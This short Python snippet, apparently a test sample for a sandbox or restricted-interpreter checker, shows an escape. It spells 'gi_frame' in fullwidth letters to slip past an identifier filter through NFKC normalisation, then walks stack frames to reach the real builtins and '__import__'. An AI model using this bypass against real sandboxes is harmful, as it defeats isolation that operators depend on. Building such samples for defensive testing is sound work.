# kind: capability
# Identifiers are NFKC-normalized: fullwidth letters spell gi_frame.
def gen():
    yield g.ｇｉ_frame.f_back


g = gen()
f = next(g)
while f is not None:
    if "open" in f.f_builtins:
        payload(f.f_builtins["__import__"])
        break
    f = f.f_back
